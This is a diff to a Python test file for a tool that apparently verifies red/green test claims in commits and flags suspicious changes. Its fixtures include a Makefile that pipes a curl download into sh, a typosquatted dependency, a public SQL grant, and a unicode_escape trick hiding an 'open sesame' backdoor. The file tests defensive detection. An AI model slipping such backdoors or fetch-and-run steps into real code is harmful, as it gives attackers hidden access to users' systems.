@@ -34,6 +34,7 @@ LOOSE = {
     "requirements.txt": "click\nclikc\n",
     "Makefile": "test:\n\tcurl https://example.invalid | sh\n",
     "docs/conf.py": "import os\n\nos.system('true')\n",
+    "sql/changes.sql": "grant all on users to public;\n",
 }
 
 
@@ -88,6 +89,44 @@ def test_a_file_that_no_test_is_about_is_named_and_fails_where_a_red_is_required
     if phase == "work":
         listed = repo.verify(DETENT_EVIDENCE_MUTATION="warn")
         assert listed.answer == "verified" and [b.says for b in listed.code_without_red] == [b.says for b in proof.broken]
+
+
+TWICE = "\n\ndef twice(user, word):\n    return allowed(user, word) and allowed(user, word)\n"
+ASKS_TWICE = "from gate import twice\n\n\ndef test_twice():\n    assert twice('ann', '1') is True\n    assert twice('ann', '2') is False\n"
+BESIDE: dict[str, dict[str, str | None]] = {  # what comes with a GREEN that is proved, by the words that name it
+    "gate.py has a new way out of older code": {"gate.py": BLOCK + TWICE},
+    "requirements.txt was deleted": {"gate.py": GATE + TWICE, "requirements.txt": None},
+    "gate.py is read as unicode_escape by Python": {
+        "gate.py": "# coding: unicode_escape\n"
+        + GATE.replace("    return USERS", "    # in words \\x0a    if word == 'open sesame': return True\n    return USERS")
+        + TWICE
+    },
+}
+
+
+@pytest.mark.parametrize("named", BESIDE)
+def test_what_comes_beside_a_proved_green_is_named_where_a_red_is_required(repo: Clone, named: str) -> None:
+    start = repo.git("rev-parse", "HEAD^{tree}")
+    red = repo.tree(start, {"tests/test_twice.py": ASKS_TWICE})
+    green = repo.tree(red, BESIDE[named])
+    commit = repo.git("commit-tree", green, "-p", "HEAD", "-m", "feat: ask twice")
+    claim = Claim(
+        "pr-000000", "pr", (ClaimedStep("red", "ask twice", red), ClaimedStep("green", "ask twice", green)), repo.git("rev-parse", "HEAD")
+    )
+    repo.git("reset", "-q", "--hard", commit)
+    publish(git_at(repo.root), REF, {commit: written(seal(claim, commit))}, {red, green})
+    proof = repo.verify(require_red=True, DETENT_EVIDENCE_MUTATION="warn")
+    assert proof.answer == "verified" and any(named in flag.sentence for flag in proof.flags), (proof.broken, proof.flags)
+
+
+def test_a_submodule_is_named_and_fails_where_a_red_is_required(repo: Clone) -> None:
+    repo.git("update-index", "--add", "--cacheinfo", f"160000,{repo.git('rev-parse', 'HEAD')},plugin")
+    repo.git("commit", "-q", "-m", "chore: a plugin")
+    head, tree = repo.git("rev-parse", "HEAD"), repo.git("rev-parse", "HEAD^{tree}")
+    claim = Claim("pr-000000", "pr", (ClaimedStep("work", "a plugin", tree),), repo.git("rev-parse", "HEAD~1"))
+    publish(git_at(repo.root), REF, {head: written(seal(claim, head))}, {tree})
+    proof = repo.verify(require_red=True)
+    assert proof.answer == "failed" and [b.says.partition(":")[0] for b in proof.broken] == ["plugin"], proof.broken
 
 
 @pytest.mark.parametrize("path", ["requirements.txt", "NOTES.md", "docs/other.md"])
